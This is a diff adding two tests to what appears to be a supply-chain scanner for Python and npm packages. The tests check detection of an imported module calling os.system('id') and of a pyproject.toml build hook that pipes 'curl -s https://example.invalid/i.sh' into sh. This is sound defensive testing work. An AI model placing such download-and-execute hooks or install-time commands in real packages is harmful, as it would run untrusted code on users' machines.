@@ -416,3 +416,24 @@ def test_webpack_eval_of_a_string_literal_is_not_decoded(tmp_path: Path) -> None
         "package/dist/bundle.js": "eval(\"var x = atob(y); Buffer.from(z, 'base64').toString()\");\n",
     }
     assert "JS-EVAL-DECODED" not in {f.rule for f in _scan(tmp_path, files, "npm")}
+
+
+def test_tooling_imported_by_installed_code_is_not_tooling(tmp_path: Path) -> None:
+    files = {
+        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n",
+        "demo-1.0/demo/__init__.py": "from .benchmarks import warm\n",
+        "demo-1.0/demo/benchmarks/warm.py": "import os\nos.system('id')\n",
+        "demo-1.0/demo/benchmarks/__init__.py": "",
+    }
+    found = _hits(_scan(tmp_path, files))
+    assert ("PY-INSTALL-PROCESS", "demo/benchmarks/warm.py", 2) in found, found
+
+
+def test_tool_tables_and_listings_weigh_as_tooling_and_docs(tmp_path: Path) -> None:
+    files = {
+        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n",
+        "demo-1.0/pyproject.toml": '[project]\nname = "demo-widget"\n\n[tool.cibuildwheel]\n'
+        'before-all = "curl -s https://example.invalid/i.sh | sh"\n',
+    }
+    hits = [f for f in _scan(tmp_path, files) if f.rule == "CNT-DOWNLOAD-EXEC"]
+    assert hits and all(f.reachability == "test" for f in hits)
